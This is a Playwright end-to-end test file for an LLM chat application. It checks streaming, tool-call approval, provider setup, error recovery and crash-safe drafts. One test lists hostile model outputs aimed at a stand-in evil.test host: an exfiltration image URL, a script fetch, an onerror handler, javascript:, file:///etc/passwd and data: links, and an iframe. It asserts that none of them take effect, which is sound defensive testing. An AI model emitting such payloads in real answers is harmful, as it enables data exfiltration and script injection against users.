import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import type { Locator } from '@playwright/test';
import { answer, callTools } from '../../fakeModels/reply.ts';
import { answers, approval, goTo, idle, newChat, send, toolCall, useFakeModel } from '../../fixtures/actions.ts';
import { expect, test } from '../../fixtures/fakeModelTest.ts';
import { press } from '../../fixtures/trustPage.ts';

test.describe('models', { tag: '@shell' }, () => {
  test('stream their answers and use the tools of servers', async ({ launch, fakeModel }) => {
    const model = await fakeModel((_request, n) =>
      n === 0 ? callTools({ name: 'Sample_echo', arguments: { message: 'from the model' } }) : answer('It said it.'),
    );
    const app = await launch({ world: { hasSample: true } });
    const { page } = app;
    await useFakeModel(app, model.baseUrl, 'sk-canary-123');
    await send(page, 'Please echo something');
    await approval(page, 'Sample', 'echo').getByRole('button', { name: 'Allow once' }).click();
    await expect(answers(page).last()).toContainText('It said it.');
    expect(model.requests[0]?.headers.authorization).toBe('Bearer sk-canary-123');
    expect(JSON.stringify(model.requests[1]?.body)).toContain('from the model');
  });

  test('of Google Gemini are added by their own form, and use tools', async ({ launch, fakeModel }) => {
    const call = { name: 'Sample_echo', arguments: { message: 'from Gemini' } };
    const model = await fakeModel(
      (_request, n) => ({
        steps: [{ reasoning: 'Let me see.' }, n === 0 ? { toolCall: call } : { text: 'It said it.' }],
      }),
      'gemini',
    );
    const app = await launch({ world: { hasSample: true } });
    const { page } = app;
    await goTo(page, 'Settings');
    await page.getByRole('button', { name: 'Add provider' }).click();
    await page.getByRole('menuitem', { name: 'Google Gemini' }).click();
    const form = page.getByRole('dialog', { name: 'Add Google Gemini' });
    await form.getByRole('textbox', { name: 'Base URL' }).fill(model.baseUrl);
    await form.getByLabel('API key').fill('AIza-canary-123');
    await form.getByRole('button', { name: 'Add provider' }).click();
    const question = (await app.trustPage()).getByRole('main', { name: /^Send chats to/ });
    await press(app, question, 'Allow', () => form.waitFor({ state: 'detached' }));
    await page.getByRole('button', { name: 'Use this model' }).click();
    await newChat(page);
    await send(page, 'Please echo something');
    await approval(page, 'Sample', 'echo').getByRole('button', { name: 'Allow once' }).click();
    await expect(answers(page).last()).toContainText('It said it.');
    expect(model.requests[0]?.headers['x-goog-api-key']).toBe('AIza-canary-123');
    await page.getByRole('button', { name: 'What the model saw' }).last().click();
    const seen = page.getByRole('dialog', { name: 'What the model saw' });
    for (const source of ['Your messages', 'Reasoning of the model', 'Tool calls · Sample', 'Tool results · Sample'])
      await expect(seen.getByRole('button', { name: new RegExp(`^${source}`) })).toBeVisible();
  });

  test('are asked with the settings of the chat, as far as they have them', async ({ launch, fakeModel }) => {
    const model = await fakeModel(() => answer('Fine.'));
    const { page } = await launch({ world: { models: [model] } });
    const open = () => page.getByRole('button', { name: 'Model settings' }).click();
    const card = page.getByRole('dialog', { name: 'Model settings' });
    await open();
    // Nobody knows this model, so the user says that it reasons.
    await expect(card.getByRole('combobox', { name: 'Reasoning effort' })).toHaveCount(0);
    await card.getByRole('button', { name: 'Prices and abilities…' }).click();
    const about = page.getByRole('dialog', { name: /^About / });
    await about.getByRole('combobox', { name: 'Reasoning' }).selectOption('Yes');
    await about.getByRole('button', { name: 'Save' }).click();
    await open();
    await card.getByRole('combobox', { name: 'Reasoning effort' }).selectOption('High');
    await card.getByRole('textbox', { name: 'Maximum answer length (tokens)' }).fill('777');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Escape');
    await send(page, 'Hello');
    await expect(answers(page).last()).toContainText('Fine.');
    expect(model.requests[0]?.body).toMatchObject({ reasoning_effort: 'high', max_tokens: 777 });
    await page.reload();
    await send(page, 'And again?');
    await expect(answers(page).last()).toContainText('Fine.');
    await expect.poll(() => model.requests[1]?.body).toMatchObject({ reasoning_effort: 'high', max_tokens: 777 });
  });

  test('show what to do after an error, and can be asked again', async ({ launch, fakeModel }) => {
    const model = await fakeModel((_request, n) =>
      n === 0
        ? { status: 401, error: { type: 'invalid_api_key', message: 'Incorrect API key' } }
        : answer('Now it works.'),
    );
    const { page } = await launch({ world: { models: [model] } });
    await send(page, 'Hello');
    const alert = answers(page).last();
    await expect(alert).toContainText(/key/i);
    await alert.getByRole('button', { name: 'Retry' }).click();
    await expect(answers(page).last()).toContainText('Now it works.');
  });

  test('keep their text when the answer breaks off', async ({ launch, fakeModel }) => {
    const model = await fakeModel(() => ({ steps: [{ text: 'This much came' }, { cut: true }] }));
    const { page } = await launch({ world: { models: [model] } });
    await send(page, 'Hello');
    await expect(answers(page).last()).toContainText('This much came');
    await expect(answers(page).last().getByRole('button', { name: 'Retry' })).toBeVisible();
  });

  test('show the same text after a reload in mid-stream', async ({ launch, fakeModel }) => {
    const goOn = Promise.withResolvers<void>();
    const before = Array.from({ length: 40 }, (_, n) => ({ text: `Word ${n}. ` }));
    const after = Array.from({ length: 40 }, (_, n) => ({ text: `More ${n}. ` }));
    const model = await fakeModel(() => ({ steps: [...before, { wait: goOn.promise }, ...after] }));
    const { page } = await launch({ world: { models: [model] } });
    await send(page, 'Tell me');
    const words = before
      .map(({ text }) => text)
      .join('')
      .trim();
    const text = answers(page).last().locator('p');
    await expect(text).toHaveText(words);
    await page.reload();
    await expect(text).toHaveText(words);
    goOn.resolve();
    const whole = `${words} ${after
      .map((step) => step.text)
      .join('')
      .trim()}`;
    await expect(text).toHaveText(whole);
    await idle(page);
    await page.reload();
    await expect(text).toHaveText(whole);
  });

  test('get a readable error when they call a missing tool', async ({ launch, fakeModel }) => {
    const model = await fakeModel((_request, n) =>
      n === 0 ? callTools({ name: 'no_such_tool', arguments: '{"half": ' }) : answer('Sorry.'),
    );
    const { page } = await launch({ world: { models: [model] } });
    await send(page, 'Hello');
    await expect(answers(page).last()).toContainText('Sorry.');
    expect(JSON.stringify(model.requests[1]?.body)).toContain('There is no tool called');
  });

  test('have their calls made side by side, with a card for each', async ({ launch, fakeModel }) => {
    const model = await fakeModel((_request, n) =>
      n === 0
        ? callTools(
            { name: 'Sample_echo', arguments: { message: 'a' } },
            { name: 'Sample_add', arguments: { a: 1, b: 2 } },
          )
        : answer('Both done.'),
    );
    const { page } = await launch({ world: { models: [model], hasSample: true } });
    await send(page, 'Go');
    const card = approval(page, 'Sample', 'add');
    const allow = card.getByRole('button', { name: 'Allow once' });
    // The second card is below the first, and must be scrolled into view first. It grows when its text arrives.
    await expect(async () => {
      await card.getByRole('button', { name: 'Deny', exact: true }).scrollIntoViewIfNeeded();
      await card.getByRole('definition').first().scrollIntoViewIfNeeded();
      await expect(allow).toBeEnabled({ timeout: 1000 });
    }).toPass();
    // Right after the thread scrolled, as it does while an answer streams.
    await expect.poll(() => isUnderPointerAfterScroll(allow)).toBe(true);
    await allow.click();
    await expect(toolCall(page, 'Sample', 'add')).toContainText('Done');
    await approval(page, 'Sample', 'echo').getByRole('button', { name: 'Allow once' }).click();
    await expect(answers(page).last()).toContainText('Both done.');
  });

  test('get messages that were typed meanwhile when they are done', async ({ launch, fakeModel }) => {
    const gate = Promise.withResolvers<void>();
    const model = await fakeModel((_request, n) =>
      n === 0 ? { steps: [{ text: 'First' }, { wait: gate.promise }] } : answer('Second'),
    );
    const { page } = await launch({ world: { models: [model] } });
    await send(page, 'one');
    await expect(answers(page).last()).toContainText('First');
    await send(page, 'two');
    await expect(page.getByRole('region', { name: 'Waiting messages' })).toContainText('two');
    gate.resolve();
    await expect(answers(page).last()).toContainText('Second');
  });

  test('lose no finished message to kill -9, and the turn is shown as interrupted', async ({ launch, fakeModel }) => {
    const never = Promise.withResolvers<void>();
    const model = await fakeModel((_request, n) =>
      n === 0 ? answer('A finished answer.') : { steps: [{ text: 'Half of an answer' }, { wait: never.promise }] },
    );
    const app = await launch({ world: { models: [model] } });
    await send(app.page, 'first question');
    await expect(answers(app.page).last()).toContainText('A finished answer.');
    await idle(app.page);
    await send(app.page, 'second question');
    await expect(answers(app.page).last()).toContainText('Half of an answer');
    await app.kill('SIGKILL');
    never.resolve();

    const { page } = await launch();
    await page.getByRole('button', { name: /^first question/ }).click();
    await expect(answers(page).first()).toContainText('A finished answer.');
    await expect(page.getByRole('article', { name: 'User message' }).last()).toContainText('second question');
    await expect(page.getByText('This answer was interrupted')).toBeVisible();
  });

  test('lose no draft to kill -9: it is in the composer of its chat after the next start', async ({
    launch,
    fakeModel,
    dataFolder,
  }) => {
    const model = await fakeModel(() => answer('An answer.'));
    const app = await launch({ world: { models: [model] } });
    await send(app.page, 'first question');
    await idle(app.page);
    const draft = 'Half of a thought, 一半';
    const kept = app.page.getByRole('textbox', { name: 'Message' });
    await kept.fill(draft);
    await expect.poll(() => draftsIn(dataFolder)).toEqual([draft]);
    await app.kill('SIGKILL');

    const { page } = await launch();
    await page.getByRole('button', { name: /^first question/ }).click();
    await expect(page.getByRole('textbox', { name: 'Message' })).toHaveText(draft);
    await send(page, ' and the rest');
    await idle(page);
    await expect.poll(() => draftsIn(dataFolder)).toEqual([]);
  });

  test('cannot make the page fetch, run or open anything with their text (security cases 21, 22, 23, 24, 25, 33)', async ({
    launch,
    fakeModel,
  }) => {
    const hostile = [
      '![x](https://evil.test/pixel.png?q=secret)',
      '<img src=https://evil.test/a.png onerror=alert(1)>',
      '<script>fetch("https://evil.test/")</script>',
      '[click](javascript:alert(1)) [file](file:///etc/passwd) [data](data:text/html,<script>alert(1)</script>)',
      '<iframe src="https://evil.test/"></iframe>',
      '[fine](https://good.test/)',
    ].join('\n\n');
    const model = await fakeModel(() => ({ steps: [{ text: hostile }] }));
    const { page } = await launch({ world: { models: [model] } });
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs++;
      void dialog.dismiss();
    });
    await send(page, 'Hello');
    await expect(answers(page).last()).toContainText('fine');
    await idle(page);
    expect(asked.filter((url) => url.includes('evil.test'))).toEqual([]);
    expect(dialogs).toBe(0);
    await expect(page.locator('iframe, script[src*="evil"]')).toHaveCount(0);
    await expect(page.locator('a[href^="javascript:"], a[href^="file:"], a[href^="data:"]')).toHaveCount(0);
  });

  test('are listed by their provider, and a wrong address is reported', async ({ launch, fakeModel }) => {
    const model = await fakeModel(() => answer('x'));
    const { page } = await launch({ world: { models: [model] } });
    await goTo(page, 'Settings');
    await page.getByRole('button', { name: 'Check models' }).last().click();
    await expect(page.getByText(/^\d+ models? found$/)).toBeVisible();
    await expect(page.getByRole('dialog')).toHaveCount(0);
    await model.close();
    await newChat(page);
    await send(page, 'Hello');
    await expect(answers(page).last()).toContainText(model.baseUrl.replace('http://', ''));
  });
});

/** Whether a press would hit the element in the frames right after its container was scrolled. */
function isUnderPointerAfterScroll(locator: Locator): Promise<boolean> {
  return locator.evaluate(async (element) => {
    element.scrollIntoView({ block: 'end' });
    element.scrollIntoView({ block: 'center' });
    for (let frame = 0; frame < 4; frame++) {
      await new Promise(requestAnimationFrame);
      const { x, y, width, height } = element.getBoundingClientRect();
      if (!element.contains(document.elementFromPoint(x + width / 2, y + height / 2))) return false;
    }
    return true;
  });
}

/** The drafts on disk. */
function draftsIn(dataFolder: string): unknown[] {
  const db = new DatabaseSync(join(dataFolder, 'gatehouse.db'), { readOnly: true, timeout: 5000 });
  try {
    return db
      .prepare("SELECT text FROM drafts WHERE text <> ''")
      .all()
      .map(({ text }) => text);
  } finally {
    db.close();
  }
}
